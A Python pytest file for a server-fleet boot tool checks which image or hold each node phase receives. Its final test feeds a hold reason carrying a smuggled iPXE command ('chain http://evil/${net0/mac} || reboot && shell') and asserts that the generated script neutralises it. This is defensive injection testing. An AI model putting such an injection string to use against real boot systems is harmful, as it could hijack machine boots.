"""The boot answer in each phase, and what stops a boot whatever the phase."""

from typing import Any

import pytest
from msgspec.structs import replace

from hostler.core.boot import ipxe
from hostler.core.boot.boot_target import BOOTS, boot_target_of
from hostler.core.policy.boot_rules import NAMED
from hostler.core.state.boot import BootConfiguration, BootImage
from hostler.core.state.fleet import Fleet
from hostler.core.state.model import HoldKind, Operation, Phase
from hostler.core.state.operations import WriteFirmware
from tests.kit import NOW, a_hold, a_node, configuration

IMAGES = {name: BootImage(f"{name}/vmlinuz", name=name) for name in ("production", "burn_in")}


def fleet_with(**boot: Any) -> Fleet:
    fleet = Fleet()
    boots = BootConfiguration("http://10.0.0.1:8081", **{"images": IMAGES, **boot})
    fleet.configurations.put("active", replace(configuration(), boot=boots))
    return fleet


@pytest.mark.parametrize("phase", list(Phase), ids=str)
def test_every_phase_has_an_answer_and_a_hold_says_why(phase: Phase) -> None:
    answer = boot_target_of(fleet_with(), a_node("n1", phase=phase))
    expected = {"burn_in": "burn_in", "hold": ""}.get(BOOTS[phase], "production")
    assert answer.image == expected
    assert bool(answer.reason) is (BOOTS[phase] == "hold")


@pytest.mark.parametrize("phase", list(Phase), ids=str)
def test_each_phase_boots_its_own_image_where_the_catalogue_has_it(phase: Phase) -> None:
    """Mutants: a firmware update boots the inspection's image; an examination the one that is delivered."""
    images = {name: BootImage(f"{name}/vmlinuz", name=name) for name in NAMED}
    answer = boot_target_of(fleet_with(images=images), a_node("n1", phase=phase))
    held = phase in (Phase.registered, Phase.zap_fail, Phase.rma, Phase.retired)
    own = {Phase.zap: "firmware", Phase.test: "burn_in"}
    own |= dict.fromkeys((Phase.seatrial, Phase.triage, Phase.debug), "inspection")
    assert answer.image == ("" if held else own.get(phase, "production"))


def test_a_machine_that_boots_amid_a_firmware_update_is_held() -> None:
    """Mutant: only the phase is looked at, and a node is booted while its BIOS is written."""
    flash = Operation("o1", WriteFirmware("BIOS", "2"), "n1", "p1", 0, NOW, NOW)
    answer = boot_target_of(fleet_with(), a_node("n1", phase=Phase.zap, operation=flash))
    assert (answer.kind, answer.reason) == ("hold", "firmware of BIOS is being written")


def test_hands_in_a_machine_keep_it_from_booting() -> None:
    fleet = fleet_with()
    fleet.put_hold("h1", a_hold("n1", HoldKind.physical_work))
    assert boot_target_of(fleet, a_node("n1")).kind == "hold"


def test_the_configuration_may_answer_otherwise() -> None:
    fleet = fleet_with(phases={"test": "local-disk", "production": "hold"}, pools={"train": "burn_in"})
    assert boot_target_of(fleet, a_node("n1", phase=Phase.test)).kind == "local-disk"
    assert boot_target_of(fleet, a_node("n1", "train", phase=Phase.production)).image == "burn_in"


def test_without_an_image_the_answer_says_which_is_missing() -> None:
    fleet = Fleet()
    fleet.configurations.put("active", replace(configuration(), boot=BootConfiguration("http://h:1")))
    assert "no image 'burn_in'" in boot_target_of(fleet, a_node("n1", phase=Phase.test)).reason


def test_what_a_reason_holds_cannot_become_a_command() -> None:
    """Mutant: a hold's reason stands in the script as it was written."""
    script = ipxe.hold_script("n1", "x\nchain http://evil/${net0/mac} || reboot && shell", "http://h:1/ipxe")
    assert "evil/$" not in script
    assert not [line for line in script.splitlines() if line.startswith("chain http://evil")]
    assert "||" not in next(line for line in script.splitlines() if "evil" in line)
